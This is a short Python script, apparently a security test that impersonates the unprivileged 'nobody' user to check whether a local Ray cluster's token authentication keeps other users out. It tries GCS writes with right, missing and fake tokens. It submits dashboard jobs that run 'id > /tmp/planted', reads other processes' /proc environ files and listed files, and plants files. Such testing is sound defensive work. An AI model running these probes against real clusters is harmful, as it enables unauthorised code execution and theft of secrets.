"""Attacks a search as another user of the machine, and prints the results as JSON.

It becomes that user after its imports, and first shows that it would get in with the token.
"""

import http.client
import json
import os
import socket
import sys
from pathlib import Path

from ray._raylet import AuthenticationTokenLoader, Config, GcsClient

NOBODY = 65534


def with_token(token):
    """Makes Ray use `token` from now on; None: no token."""
    for name, value in (("RAY_AUTH_MODE", "token"), ("RAY_AUTH_TOKEN", token)):
        os.environ.pop(name, None)
        if token is not None:
            os.environ[name] = value
    Config.initialize("")
    AuthenticationTokenLoader.instance().reset_cache()


def tried(function, *arguments):
    try:
        return f"got in: {function(*arguments)}"
    except Exception as error:  # noqa: BLE001 - any refusal counts
        return f"{type(error).__name__}: {error}"


def put(address, token):
    with_token(token)
    return GcsClient(address=address).internal_kv_put(b"planted", b"x", True, b"fun", timeout=5)


def ask(port, path, body):
    """Submits a job and returns the status of the response."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=3)
    connection.request("POST" if body else "GET", path, body, {"Content-Type": "application/json"})
    return connection.getresponse().status


def connect(path):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(path)


def main():
    told = json.load(sys.stdin)
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    job = json.dumps({"entrypoint": "id > /tmp/planted"})
    found = {
        "uid": os.getuid(),
        "with the token": tried(put, told["address"], told["token"]),
        "without one": tried(put, told["address"], None),
        "with another": tried(put, told["address"], "0" * 64),
        "ports": {
            f"{port} {path}": tried(ask, port, path, body)
            for port in told["ports"]
            for path, body in (("/api/jobs/", job), ("/api/job_agent/jobs/", job), ("/api/version", None))
        },
        "sockets": {path: tried(connect, path) for path in told["sockets"]},
        "files": {path: tried(lambda path=path: Path(path).read_bytes()) for path in told["files"]},
        "environments": {str(pid): tried(Path(f"/proc/{pid}/environ").read_bytes) for pid in told["pids"]},
        "the directory": tried(os.listdir, told["directory"]),
        "a file in it": tried(Path(told["directory"], "planted").write_text, "x"),
    }
    print(json.dumps(found))


main()
